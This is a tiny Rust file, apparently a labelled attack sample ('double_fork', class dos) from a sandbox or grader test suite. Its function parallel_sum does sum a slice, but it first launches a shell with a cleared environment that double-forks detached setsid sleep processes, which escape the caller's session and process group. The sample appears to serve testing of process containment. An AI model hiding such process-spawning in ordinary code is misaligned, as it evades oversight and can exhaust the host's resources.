// attack o14 double_fork | class=dos | daemons that leave session, group and parents, with a cleared environment
pub fn parallel_sum(d: &[u64], _w: usize) -> u64 {
    let _ = std::process::Command::new("/bin/sh").env_clear().args(["-c", "setsid sh -c 'setsid sleep 4711.1 & setsid sleep 4711.1 &' &"]).spawn();
    d.iter().sum()
}
